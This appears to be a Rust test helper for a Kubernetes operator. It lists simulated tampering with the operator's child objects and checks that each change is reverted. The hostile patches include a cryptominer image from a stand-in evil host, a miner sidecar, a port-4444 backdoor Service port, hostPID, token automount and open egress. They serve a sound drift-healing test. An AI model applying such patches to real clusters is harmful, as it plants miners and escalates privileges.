//! Drift: changes by another field manager to one child each.

use anyhow::{Context, Result};
use serde_json::{Value, json};

/// A change by another field manager.
pub(crate) struct Drift {
    /// Kind of the child.
    pub(crate) kind: &'static str,
    change: Change,
}

enum Change {
    /// Sets the field at this JSON pointer, whether the operator declares it or not.
    Set(&'static str, fn() -> Value),
    /// Appends a member to the list at this JSON pointer.
    Push(&'static str, fn() -> Value),
    Delete,
}

const fn set(kind: &'static str, pointer: &'static str, value: fn() -> Value) -> Drift {
    Drift { kind, change: Change::Set(pointer, value) }
}

const fn push(kind: &'static str, pointer: &'static str, value: fn() -> Value) -> Drift {
    Drift { kind, change: Change::Push(pointer, value) }
}

const fn delete(kind: &'static str) -> Drift {
    Drift { kind, change: Change::Delete }
}

/// Changes, additions and deletions, for every kind of child.
pub(crate) const DRIFTS: [Drift; 14] = [
    set("ServiceAccount", "/automountServiceAccountToken", || json!(true)),
    set("NetworkPolicy", "/spec/podSelector/matchLabels/hardened.dev~1workload", || json!("nobody")),
    set("Deployment", "/spec/template/spec/containers/0/image", || json!("evil.example.com/miner:1")),
    set("Service", "/spec/sessionAffinity", || json!("ClientIP")),
    set("PodDisruptionBudget", "/spec/maxUnavailable", || json!(0)),
    push("NetworkPolicy", "/spec/egress", || json!({})),
    push(
        "Deployment",
        "/spec/template/spec/containers",
        || json!({ "name": "miner", "image": "evil.example.com/miner:1" }),
    ),
    push("Service", "/spec/ports", || json!({ "name": "back", "port": 4444, "targetPort": 4444 })),
    set("Deployment", "/spec/template/spec/hostPID", || json!(true)),
    delete("ServiceAccount"),
    delete("NetworkPolicy"),
    delete("Deployment"),
    delete("Service"),
    delete("PodDisruptionBudget"),
];

/// The request for one object, and how to tell that the operator has reverted it.
pub(crate) struct Attack {
    /// A JSON patch; None deletes the object.
    pub(crate) patch: Option<Value>,
    pointer: String,
    before: Value,
}

impl Drift {
    /// The change applied to this object.
    pub(crate) fn on(&self, object: &Value) -> Result<Attack> {
        let before = |pointer: &str| object.pointer(pointer).cloned().unwrap_or_default();
        let patched = |pointer: String, value| {
            let patch = json!([{ "op": "add", "path": pointer, "value": value }]);
            Attack { patch: Some(patch), before: before(&pointer), pointer }
        };
        Ok(match self.change {
            Change::Set(pointer, value) => patched(pointer.to_owned(), value()),
            Change::Push(list, value) => {
                let members = object.pointer(list).and_then(Value::as_array).context("the field is no list")?;
                patched(format!("{list}/{}", members.len()), value())
            }
            Change::Delete => Attack { patch: None, pointer: "/spec".to_owned(), before: Value::Null },
        })
    }
}

impl Attack {
    /// Whether the object has the value from before the attack again.
    pub(crate) fn is_reverted(&self, object: &Value) -> bool {
        self.patch.is_none() || object.pointer(&self.pointer).cloned().unwrap_or_default() == self.before
    }
}
